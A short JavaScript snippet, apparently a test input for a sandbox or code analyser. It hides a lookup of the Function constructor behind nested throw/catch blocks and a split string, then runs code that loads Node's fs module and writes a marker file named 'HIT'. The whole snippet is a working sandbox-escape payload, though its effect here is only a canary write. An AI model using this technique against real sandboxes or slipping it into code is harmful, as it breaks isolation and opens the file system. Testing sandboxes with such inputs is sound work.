// each step of a lookup is thrown and caught
const k=['constr','uctor'].join('');
try { throw ''[k] } catch(c){ try { throw c[k] } catch(e) { try { throw e('process.getBuiltinModule("fs").writeFileSync("HIT","throw3")') } catch (m) { m() } } }
